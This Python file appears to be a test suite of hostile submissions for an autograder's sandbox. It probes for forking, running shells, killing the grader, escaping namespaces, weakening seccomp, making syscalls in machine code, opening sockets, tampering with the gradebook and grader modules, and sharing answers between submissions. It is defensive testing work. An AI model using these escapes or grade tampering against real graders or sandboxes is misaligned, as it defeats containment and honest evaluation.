"""Submissions that reach for other processes, the network, other files, and what comes after them."""

from .attack import RIGHT, WRONG, Attack, cheat, probe

MACHINE_CODE = """
import mmap
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex("$code"))
run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if run() >= 0:
    gained("a system call in machine code")
"""


def in_machine_code(name: str, tries: str, code: str) -> Attack:
    """A probe in machine code: the kernel refuses the call, or ends the process at once."""
    made = probe(name, tries, MACHINE_CODE.replace("$code", code))
    return Attack(made.name, made.tries, made.cells, status=("graded", "crash"))


ATTACKS = [
    # Other processes.
    probe(
        "forks",
        "Starts a process with os.fork.",
        """
def fork():
    if os.fork() == 0:
        os._exit(0)
    gained("fork")
attempt(fork)
""",
    ),
    probe(
        "leaves-a-daemon",
        "Leaves a process behind that has left its session, for the next submission to meet.",
        """
import time
def leave():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
    gained("a daemon")
attempt(leave)
""",
    ),
    probe(
        "forks-without-python",
        "Forks by raw system calls: fork, vfork, clone and clone3.",
        """
def by(name, *arguments):
    if system(name, *arguments) == 0:
        LIBC._exit(0)
by("fork")
by("clone", 17, 0, 0, 0, 0)
by("clone", 0x80000000 | 17, 0, 0, 0, 0)
for flags in (0, 0x10000000, 0x20000000):
    by("clone3", (ctypes.c_uint64 * 11)(flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)
""",
    ),
    probe(
        "runs-a-shell",
        "Runs a program by subprocess, os.system, posix_spawn, popen and a pseudo-terminal.",
        """
import pty, subprocess
attempt(lambda: gained(subprocess.run(["/bin/sh", "-c", "id"], capture_output=True).stdout))
attempt(lambda: gained("system") if os.system("true") == 0 else None)
attempt(lambda: gained(os.posix_spawn(sys.executable, [sys.executable, "-c", "1"], {})))
attempt(lambda: gained(os.popen("id").read() or "popen"))
attempt(lambda: gained(pty.fork()))
""",
    ),
    probe(
        "becomes-another-program",
        "Replaces itself with another program, which none of Python's walls would hold.",
        """
attempt(lambda: os.execv(sys.executable, [sys.executable, "-c", "1"]))
attempt(lambda: os.execv("/bin/sh", ["/bin/sh"]))
system("execveat", 3, b"", 0, 0, 0x1000)
""",
    ),
    probe(
        "starts-a-pool",
        "Starts worker processes with multiprocessing, by each of its ways.",
        """
import multiprocessing
def start(way):
    process = multiprocessing.get_context(way).Process(target=int)
    process.start()
    gained(way)
each(["fork", "spawn", "forkserver"], start)
""",
    ),
    probe(
        "runs-a-program-from-memory",
        "Makes a file in memory and executes it.",
        """
system("memfd_create", b"HOSTILE", 0)
system("memfd_secret", 0)
""",
    ),
    probe(
        "kills-the-grader",
        "Sends SIGKILL to the grader, the zygote and its parent.",
        """
import signal
each([GRADER, ZYGOTE, os.getppid()], lambda pid: (os.kill(pid, signal.SIGKILL), gained("kill")))
each([GRADER, ZYGOTE, os.getppid()], lambda pid: (os.killpg(pid, signal.SIGKILL), gained("killpg")))
""",
    ),
    probe(
        "kills-everybody",
        "Asks whether it may signal every process there is, its group, and process 1.",
        """
each([-1, 0, 1, -os.getpgrp()], lambda pid: (os.kill(pid, 0), gained(f"kill {pid}")))
""",
    ),
    probe(
        "kills-by-other-calls",
        "Signals the grader by tgkill, rt_sigqueueinfo and a pidfd.",
        """
room = ctypes.create_string_buffer(128)
for pid in (GRADER, os.getppid()):
    system("tgkill", pid, pid, 9)
    system("rt_sigqueueinfo", pid, 10, room)
    system("pidfd_send_signal", system("pidfd_open", pid, 0), 9, 0, 0)
""",
    ),
    probe(
        "signals-by-a-file",
        "Makes the kernel signal the grader when a file becomes ready.",
        """
import fcntl, struct
for command in (fcntl.F_SETOWN, fcntl.F_SETSIG, 15, 1024):  # 15: F_SETOWN_EX, 1024: F_SETLEASE
    system("fcntl", 3, command, GRADER)
for request in (0x8901, 0x8902):  # FIOSETOWN, SIOCSPGRP
    system("ioctl", 3, request, struct.pack("i", GRADER))
""",
    ),
    probe(
        "types-into-the-terminal",
        "Pushes characters into the terminal of whoever grades.",
        """
for number in (0, 1, 2):
    for request in (0x5412, 0x541C, 0x540E):  # TIOCSTI, TIOCLINUX, TIOCSCTTY
        system("ioctl", number, request, b"x")
attempt(lambda: write("/dev/tty"))
""",
    ),
    probe(
        "limits-the-grader",
        "Takes processor time, memory and files from the grader with prlimit.",
        """
import resource
limits = (ctypes.c_uint64 * 2)(0, 0)
for pid in (GRADER, ZYGOTE, os.getppid(), 1):
    for kind in (0, 1, 7, 9):
        system("prlimit64", pid, kind, limits, 0)
attempt(lambda: (resource.prlimit(GRADER, resource.RLIMIT_CPU, (0, 0)), gained("prlimit")))
""",
    ),
    probe(
        "slows-the-grader",
        "Changes the priority, the processors and the memory of other processes.",
        """
mask = (ctypes.c_ulong * 16)(1)
for pid in (GRADER, ZYGOTE, os.getppid()):
    system("setpriority", 0, pid, 19)
    system("sched_setaffinity", pid, 128, mask)
    system("sched_setscheduler", pid, 5, mask)
    system("sched_setattr", pid, mask, 0)
    system("ioprio_set", 1, pid, 3 << 13)
    system("migrate_pages", pid, 64, mask, mask)
    system("move_pages", pid, 0, 0, 0, 0, 0)
""",
    ),
    probe(
        "raises-its-limits",
        "Raises its own limits of memory, time, files and processes.",
        """
import resource
most = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
kinds = (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC)
for kind in kinds:
    try:
        resource.setrlimit(kind, most)
        gained(kind)
    except (ValueError, OSError):
        pass
    system("prlimit64", 0, kind, (ctypes.c_uint64 * 2)(2**64 - 1, 2**64 - 1), 0)
    system("setrlimit", kind, (ctypes.c_uint64 * 2)(2**64 - 1, 2**64 - 1))
""",
    ),
    probe(
        "changes-who-it-is",
        "Becomes another user, another group, or takes capabilities.",
        """
system("setuid", 0)
system("setgid", 0)
system("setgroups", 0, 0)
room = ctypes.create_string_buffer(b"\\x22\\x05\\x08\\x20" + bytes(4) + b"\\xff" * 24)
system("capset", room, ctypes.create_string_buffer(b"\\xff" * 24))
system("personality", 0x0040000)
system("setsid")
""",
    ),
    probe(
        "changes-its-walls",
        "Makes namespaces, enters those of others, and moves its root.",
        """
for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x10020000):
    system("unshare", flags)
system("setns", 3, 0)
system("chroot", b"/")
system("pivot_root", b"/", b"/")
system("mount", b"none", b"/tmp", b"tmpfs", 0, 0)
system("mount", b"/", b"/mnt", 0, 4096, 0)
""",
    ),
    probe(
        "weakens-its-filter",
        "Installs filters and options of its own: seccomp, no new privileges, dumpable, orders at death.",
        """
import struct
program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
filters = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)))
system("seccomp", 1, 0, filters)
system("seccomp", 1, 8, filters)  # with a listener, which could answer for the kernel
for option, value in ((22, 2), (4, 1), (1, 0), (36, 1), (35, 1), (23, 0), (24, 0), (47, 2), (0x59616D61, -1), (38, 1)):
    system("prctl", option, value, filters, 0, 0)
system("landlock_create_ruleset", 0, 0, 1)
""",
    ),
    probe(
        "administers-the-machine",
        "Sets the clock and the name, loads modules, reboots: what only an administrator may.",
        """
room = ctypes.create_string_buffer(64)
for name in ("sethostname", "settimeofday", "clock_settime", "swapon", "init_module", "kexec_load", "iopl", "ioperm",
             "acct", "quotactl", "modify_ldt", "mlockall", "mbind", "reboot"):
    system(name, room, 0, 0, 0, 0, 0)
""",
    ),
    probe(
        "handles-page-faults",
        "Takes over page faults, timers and signals of the kernel's.",
        """
room = ctypes.create_string_buffer(128)
system("userfaultfd", 0)
system("timer_create", 0, room, room)
system("timerfd_create", 0, 0)
system("signalfd", -1, room, 8)
system("process_madvise", 3, room, 1, 4, 0)
""",
    ),
    in_machine_code(
        "calls-as-32-bit",
        "Makes a system call the 32-bit way, whose numbers a filter may not know.",
        "b802000000cd80c3",
    ),  # mov eax, 2 (fork); int 0x80; ret
    in_machine_code(
        "calls-as-x32", "Makes a system call by the x32 numbers, which pass by careless filters.", "b8390000400f05c3"
    ),  # mov eax, 0x40000039 (fork); syscall; ret
    in_machine_code(
        "calls-in-machine-code",
        "Makes the system call for a socket in machine code, past Python and C.",
        "b829000000bf01000000be0100000031d20f05c3",
    ),
    # The network.
    probe(
        "connects-by-tcp",
        "Connects to a server on this machine, by Python and by a raw call.",
        """
import socket
def connect(address):
    with socket.create_connection(address, timeout=0.2) as line:
        line.sendall(b"HOSTILE")
        gained("a connection")
each([("127.0.0.1", TCP), ("localhost", TCP), ("::1", TCP)], connect)
system("socket", 2, 1, 0)
system("socket", 10, 1, 0)
""",
    ),
    probe(
        "sends-by-udp",
        "Sends a packet without a connection.",
        """
import socket
def send():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"HOSTILE", ("127.0.0.1", UDP))
    gained("a packet")
attempt(send)
""",
    ),
    probe(
        "connects-by-unix",
        "Connects to a local socket by its path.",
        """
import socket
def send():
    line = socket.socket(socket.AF_UNIX)
    line.connect(UNIX)
    line.sendall(b"HOSTILE")
    gained("a local connection")
attempt(send)
each(["/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"],
     lambda path: (socket.socket(socket.AF_UNIX).connect(path), gained(path)))
""",
    ),
    probe(
        "connects-without-a-path",
        "Connects to a local socket that has a name but no file.",
        """
import socket
def send():
    line = socket.socket(socket.AF_UNIX)
    line.connect("\\0" + UNIX)
    line.sendall(b"HOSTILE")
    gained("a nameless connection")
attempt(send)
""",
    ),
    probe(
        "opens-rare-sockets",
        "Opens sockets of every other family: netlink, packet, raw, vsock, bluetooth, crypto.",
        """
for family in range(1, 46):
    for kind in (1, 2, 3, 5):
        system("socket", family, kind, 0)
for family in (1, 2):
    system("socketpair", family, 1, 0, (ctypes.c_int * 2)())
""",
    ),
    probe(
        "asks-a-name-server",
        "Sends what it found inside a name that it asks for.",
        """
import socket, urllib.request
attempt(lambda: gained(socket.getaddrinfo("hostile.example.org", 80)))
attempt(lambda: gained(urllib.request.urlopen(f"http://127.0.0.1:{TCP}/HOSTILE", timeout=0.2)))
attempt(lambda: gained(socket.gethostbyname("hostile.example.org")))
""",
    ),
    probe(
        "misuses-its-channel",
        "Sends a descriptor through its channel, connects it elsewhere, shuts it half.",
        """
import socket
line = socket.socket(fileno=3)
attempt(lambda: (socket.send_fds(line, [b"x"], [0]), gained("a descriptor was sent")))
attempt(lambda: (line.connect(("127.0.0.1", TCP)), gained("connect")))
attempt(lambda: (line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24), gained("setsockopt")))
attempt(lambda: gained(line.getsockopt(socket.SOL_SOCKET, 17, 12)))
attempt(lambda: (line.shutdown(socket.SHUT_RD), gained("shutdown")))
line.detach()
""",
    ),
    # Files, and what the next submission would find.
    probe(
        "writes-everywhere",
        "Writes a file in every place that is writable elsewhere.",
        """
places = ["/tmp", "/dev/shm", "/var/tmp", "/run", "/jail", "/jail/packages", ".", "/", "/proc/self", "/dev", HOME,
          COURSE, OUT, *map(os.path.dirname, (FRIEND, os.__file__, np.__file__))]
each([place + "/HOSTILE" for place in places], write)
""",
    ),
    probe(
        "makes-folders-and-links",
        "Makes folders, links, pipes and devices.",
        """
import stat
def make(place):
    for function in (
        lambda: os.mkdir(place + "/HOSTILE-folder"),
        lambda: os.symlink("/etc", place + "/HOSTILE-link"),
        lambda: os.link(COURSE + "/solutions/gru_cell/checks.py", place + "/HOSTILE-hard"),
        lambda: os.mkfifo(place + "/HOSTILE-pipe"),
        lambda: os.mknod(place + "/HOSTILE-node", stat.S_IFCHR | 0o666, os.makedev(1, 1)),
        lambda: os.close(os.open(place, os.O_TMPFILE | os.O_RDWR)),
    ):
        attempt(lambda: (function(), gained("made in " + place)))
each(["/tmp", "/dev/shm", COURSE, HOME, OUT, ".", os.path.dirname(os.__file__)], make)
""",
    ),
    probe(
        "removes-and-renames",
        "Removes, renames, empties and touches files of the course and the class.",
        """
paths = (COURSE + "/solutions/gru_cell/checks.py", FRIEND, HOME + "/.ssh/id_ed25519", COURSE + "/gradebook.db", OUT)
def spoil(path):
    for function in (
        lambda: os.unlink(path), lambda: os.rename(path, path + "-HOSTILE"), lambda: os.truncate(path, 0),
        lambda: os.chmod(path, 0o777), lambda: os.chown(path, 0, 0), lambda: os.utime(path), lambda: os.rmdir(path),
        lambda: os.setxattr(path, "user.HOSTILE", b"1"), lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)),
    ):
        attempt(lambda: (function(), gained("changed " + path)))
each(paths, spoil)
""",
    ),
    probe(
        "writes-itself-a-grade",
        "Writes eight points for itself into the gradebook, and none for a classmate.",
        """
import sqlite3
try:
    with sqlite3.connect(COURSE + "/gradebook.db") as book:
        book.execute("update grade set score = 8")
        gained("the gradebook")
except sqlite3.Error:
    pass
attempt(lambda: write(OUT + "/reports/HOSTILE.json"))
""",
    ),
    probe(
        "changes-the-graders-code",
        "Changes modules that the next submission's process will import.",
        """
import autograder.jail.inside.child as inside
paths = [inside.__file__, np.__file__, os.__file__, np.linalg.__file__, sys.modules["encodings"].__file__]
paths += [os.path.join(os.path.dirname(path), "__pycache__", "HOSTILE.pyc") for path in paths]
each(paths, lambda path: (os.close(os.open(path, os.O_RDWR | os.O_CREAT)), gained("opened " + path)))
""",
    ),
    probe(
        "writes-into-shared-libraries",
        "Maps a shared library's pages to write to all who use them.",
        """
import glob, mmap
def share(path):
    file = os.open(path, os.O_RDWR)
    mmap.mmap(file, 4096, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ)
    gained(path)
each(glob.glob(os.path.dirname(np.__file__) + "/*/*.so")[:20], share)
""",
    ),
    probe(
        "writes-through-proc",
        "Changes itself and the grader by writing to /proc.",
        """
names = ("oom_score_adj", "comm", "mem", "coredump_filter", "clear_refs", "timerslack_ns", "attr/current", "uid_map")
each([f"/proc/{pid}/{name}" for pid in ("self", GRADER, os.getppid()) for name in names], lambda path: (
    os.close(os.open(path, os.O_WRONLY)), gained(path)))
each(["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs"], write)
""",
    ),
    probe(
        "leaves-shared-memory",
        "Leaves a note for a friend in shared memory, queues and semaphores.",
        """
from multiprocessing import shared_memory
def keep():
    kept = shared_memory.SharedMemory("HOSTILE", create=True, size=100)
    gained("shared memory")
attempt(keep)
system("shmget", 0x4057, 4096, 0o1666)
system("msgget", 0x4057, 0o1666)
system("semget", 0x4057, 1, 0o1666)
system("mq_open", b"HOSTILE", 0o102, 0o666, 0)
""",
    ),
    cheat(
        "leaves-a-note-in-modules",
        "Leaves its right functions in shared modules, for a friend who has none.",
        """
import builtins, os, sys
def keep(function):
    for place in (np, os, sys, builtins):
        setattr(place, "note_" + function.__name__, function)
    return function
"""
        + RIGHT
        + """
for function in (sigmoid, gru_cell, gru_forward):
    keep(function)
sys.modules["notes"] = sys.modules[__name__]
""",
        deserves=8.0,
        exactly=True,
    ),
    cheat(
        "looks-for-a-note",
        "The friend: takes the functions that the submission before may have left.",
        WRONG
        + """
import builtins, os, sys
for place in (np, os, sys, builtins, sys.modules.get("notes")):
    for name in ("sigmoid", "gru_cell", "gru_forward"):
        globals()[name] = getattr(place, "note_" + name, globals()[name])
""",
    ),
    cheat(
        "threads-go-on",
        "Leaves threads that write over its answers after it has given them.",
        WRONG
        + """
import threading, time
given = []
def change():
    while True:
        for array in given:
            array[...] = 0.5
        time.sleep(0.001)
threading.Thread(target=change, daemon=True).start()
def sigmoid(a):
    given.append(np.zeros(np.shape(a)))
    return given[-1]
""",
    ),
    cheat(
        "threads-answer-later",
        "Leaves a thread that goes on writing to the channel between the calls.",
        WRONG
        + """
import os, threading, time
def talk():
    while True:
        os.write(3, b"GRU1" + bytes(12))
        time.sleep(0.01)
threading.Thread(target=talk, daemon=True).start()
time.sleep(0.1)
""",
        status=("crash",),
    ),
    cheat(
        "threads-hold-the-exit",
        "Leaves threads and exit handlers that would keep its process from ending.",
        """
import atexit, threading, time
atexit.register(time.sleep, 300)
for _ in range(8):
    threading.Thread(target=time.sleep, args=(300,)).start()
"""
        + RIGHT,
        deserves=8.0,
        exactly=True,
    ),
]
